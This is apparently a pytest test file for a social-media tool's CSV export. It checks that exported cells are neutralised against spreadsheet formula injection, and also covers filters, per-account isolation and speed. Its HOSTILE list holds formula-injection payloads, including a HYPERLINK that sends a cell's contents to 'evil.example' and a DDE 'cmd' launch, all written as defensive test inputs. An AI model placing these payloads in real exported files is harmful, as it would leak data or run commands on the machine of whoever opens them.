"""What leaves as a file: whole, readable by any spreadsheet, harmless to it, and one's own."""

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from uuid import uuid4

import pytest
from psycopg.types.json import Jsonb

from socialcore import exporting, history, posts, publishing
from socialcore.adapters.contract import Lookups
from socialcore.database import ReadScope, account_scope, portfolio_scope
from socialcore.exporting import DELIVERIES, POSTS
from socialcore.history import Wanted
from socialcore.posts import Content
from tests.conftest import Business, make_business

HOSTILE = [
    '=HYPERLINK("https://evil.example?"&A1,"Prize")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]
PLAIN = [
    "Fresh bread",
    'He said "bread", twice; and\r\nleft',
    "a,b;c",
    "🥐 Frühstück ab 7",
    "it's = fine",
    "'quoted",
    "",
]


def submit(business: Business, content: Content) -> None:
    connection = next(iter(business.connections.values()))
    with business.scope() as scope:
        publishing.submit(
            scope,
            content,
            {connection.id: publishing.render(content, connection, Lookups())},
            [connection],
            submit_token=uuid4(),
            due_at=None,
            undo=timedelta(0),
            late_window=timedelta(hours=2),
            now=datetime.now(UTC),
        )


def read(written: bytes) -> list[dict[str, str]]:
    assert written.startswith(b"\xef\xbb\xbf")
    text = written.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def exported(business: Business, write: Callable[[ReadScope, Wanted], bytes], wanted: Wanted | None = None):
    with portfolio_scope(business.app, business.operator_id) as scope:
        return read(write(scope, wanted or Wanted()))


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_is_a_formula(cell: str):
    assert exporting.harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_stay_as_they_are(cell: str):
    assert exporting.harmless(cell) == cell


def test_hostile_words_come_out_harmless_and_whole(bakery: Business):
    bakery.connect("=evil.test")
    written = [each for each in [*HOSTILE, *PLAIN] if each.strip()]
    for text in written:
        submit(bakery, Content(text=text))

    texts = [row["text"] for row in exported(bakery, exporting.posts)]
    rows = exported(bakery, exporting.deliveries)

    assert texts == [exporting.harmless(each) for each in reversed(written)]
    assert {row["target"] for row in rows} == {"'=evil.test"}
    assert not [cell for row in rows for cell in row.values() if cell.lstrip(" ").startswith(exporting.FORMULA)]


def test_columns_hold_what_they_say(migrated, app, vault, superuser):
    business = make_business(migrated, app, vault, zone="America/New_York")
    business.turn_on()
    business.connect("bakery.test")
    submit(business, Content(text="Fresh bread"))
    superuser.execute("alter table deliveries disable trigger user")
    superuser.execute(
        "update deliveries set state = 'confirmed', remote_id = 'at://1', url = 'https://bsky.app/1', attempt = 2,"
        " read_back = 'match', read_back_at = '2026-11-23 12:00+00', due_at = '2026-11-23 11:59:58.7+00',"
        " expires_at = '2100-01-01', changed_at = '2026-07-01 12:00+00' where account_id = %s",
        [business.account_id],
    )
    superuser.execute("alter table deliveries enable trigger user")

    (post,), (delivery,) = exported(business, exporting.posts), exported(business, exporting.deliveries)

    assert list(post) == list(POSTS)
    assert list(delivery) == list(DELIVERIES)
    assert (post["post"], post["text"], post["deliveries"], post["published"]) == (
        delivery["post"], "Fresh bread", "1", "1",
    )  # fmt: skip
    assert delivery["due_at"] == "2026-11-23T06:59:58-05:00"
    assert delivery["changed_at"] == "2026-07-01T08:00:00-04:00"
    assert delivery["read_back_at"] == "2026-11-23T07:00:00-05:00"
    assert (delivery["platform"], delivery["target"], delivery["state"]) == ("bluesky", "bakery.test", "published")
    assert (delivery["link"], delivery["platform_id"], delivery["attempts"]) == ("https://bsky.app/1", "at://1", "2")
    assert (delivery["failure"], delivery["edited_at"], delivery["taken_down_at"]) == ("", "", "")


def test_no_other_accounts_row_is_in_it(bakery: Business, florist: Business):
    for business, text in ((bakery, "Fresh bread"), (florist, "Fresh roses")):
        business.connect()
        submit(business, Content(text=text))

    assert [row["text"] for row in exported(bakery, exporting.posts)] == ["Fresh bread"]
    assert [row["text"] for row in exported(bakery, exporting.deliveries)] == ["Fresh bread"]
    assert exported(bakery, exporting.posts, Wanted(account_id=florist.account_id)) == []
    with account_scope(bakery.app, bakery.operator_id, bakery.account_id) as scope:
        assert len(read(exporting.posts(scope, Wanted()))) == 1


class TestFilter:
    @pytest.fixture(autouse=True)
    def written(self, bakery: Business, superuser) -> None:
        bakery.connect("bakery.test")
        bakery.connect("C012345", platform="slack")
        for number, text in enumerate(["Fresh bread", "100% rye_bread", "Rolls \\ buns"]):
            submit(bakery, Content(text=text))
            superuser.execute(
                "update deliveries set state = %s, remote_id = %s, read_back = 'match'"
                " where account_id = %s and rendered->>'text' = %s",
                [("queued", "cancelled", "cancelled")[number], None, bakery.account_id, text],
            )

    @pytest.mark.parametrize(
        ("wanted", "texts"),
        [
            (Wanted(text="BREAD"), ["100% rye_bread", "Fresh bread"]),
            (Wanted(text="0%"), ["100% rye_bread"]),
            (Wanted(text="_"), ["100% rye_bread"]),
            (Wanted(text="\\"), ["Rolls \\ buns"]),
            (Wanted(text="  cake "), []),
            (Wanted(stage="cancelled"), ["Rolls \\ buns", "100% rye_bread"]),
            (Wanted(stage="waiting", platform="bluesky"), ["Fresh bread"]),
            (Wanted(stage="waiting", platform="slack"), []),
            (Wanted(platform="slack"), []),
            (Wanted(since=datetime(2100, 1, 1, tzinfo=UTC)), []),
            (Wanted(until=datetime(2100, 1, 1, tzinfo=UTC), text="rolls"), ["Rolls \\ buns"]),
        ],
        ids=str,
    )
    def test_what_is_exported_is_what_is_looked_for(self, bakery: Business, wanted: Wanted, texts: list[str]):
        rows = exported(bakery, exporting.posts, wanted)

        assert [row["text"] for row in rows] == texts
        with portfolio_scope(bakery.app, bakery.operator_id) as scope:
            assert [each.content.text for each in history.search(scope, wanted)] == texts
            assert history.count(scope, wanted) == len(texts)

    def test_a_post_is_found_by_its_number(self, bakery: Business):
        with portfolio_scope(bakery.app, bakery.operator_id) as scope:
            (_, wanted, _) = history.search(scope, Wanted())
            for asked in (wanted.title, wanted.title.lower(), str(wanted.number)):
                assert wanted.id in [each.id for each in history.search(scope, Wanted(text=asked))]

    def test_pages_hold_every_post_once(self, bakery: Business):
        with portfolio_scope(bakery.app, bakery.operator_id) as scope:
            whole = [each.id for each in history.search(scope, Wanted())]
            assert [each.id for each in history.all_of(scope, Wanted(), at_once=1)] == whole
            assert len(whole) == 3


def test_a_file_that_was_cut_says_so(bakery: Business, monkeypatch: pytest.MonkeyPatch):
    bakery.connect()
    for number in range(3):
        submit(bakery, Content(text=f"Loaf {number}"))
    monkeypatch.setattr(exporting, "MOST_POSTS", 2)

    rows = exported(bakery, exporting.posts)

    assert [row["text"] for row in rows] == ["Loaf 2", "Loaf 1", ""]
    assert rows[2]["post"] == exporting.CUT


def test_five_thousand_posts_are_exported_in_seconds(
    bakery: Business, superuser, record_property: Callable[[str, object], None]
):
    connection = bakery.connect()
    content = Jsonb(posts.to_json(Content(text="Fresh bread, " * 15)))
    superuser.execute(
        "with made as (insert into posts (account_id, submit_token, author_id, content, content_hash, submitted_at)"
        "   select %s, gen_random_uuid(), %s, %s, sha256(n::text::bytea), now() - n * interval '1 minute'"
        "   from generate_series(1, 5000) n returning account_id, id, content, submitted_at)"
        " insert into deliveries (account_id, post_id, connection_id, state, priority, due_at, expires_at, next_at,"
        "   rendered, text_hash) select account_id, id, %s, 'cancelled', 0, submitted_at, submitted_at, submitted_at,"
        "   content, sha256(id::text::bytea) from made",
        [bakery.account_id, bakery.operator_id, content, connection.id],
    )
    began = datetime.now(UTC)

    rows = exported(bakery, exporting.deliveries)

    took = (datetime.now(UTC) - began).total_seconds()
    record_property("shows", f"5,000 deliveries as CSV: {took:.1f} s")
    assert len(rows) == 5_000
    assert took < 10


def test_words_of_all_accounts_are_looked_for_in_the_latest_posts_of_each(
    bakery: Business, monkeypatch: pytest.MonkeyPatch
):
    bakery.connect()
    for text in ("Old bread", "Rolls", "Cake"):
        submit(bakery, Content(text=text))
    monkeypatch.setattr(history, "LOOKED_AT", 2)

    for wanted, texts in {
        Wanted(text="bread"): [],
        Wanted(text="rolls"): ["Rolls"],
        Wanted(text="bread", account_id=bakery.account_id): ["Old bread"],
        Wanted(text="bread", stage="waiting"): ["Old bread"],
    }.items():
        assert [row["text"] for row in exported(bakery, exporting.posts, wanted)] == texts
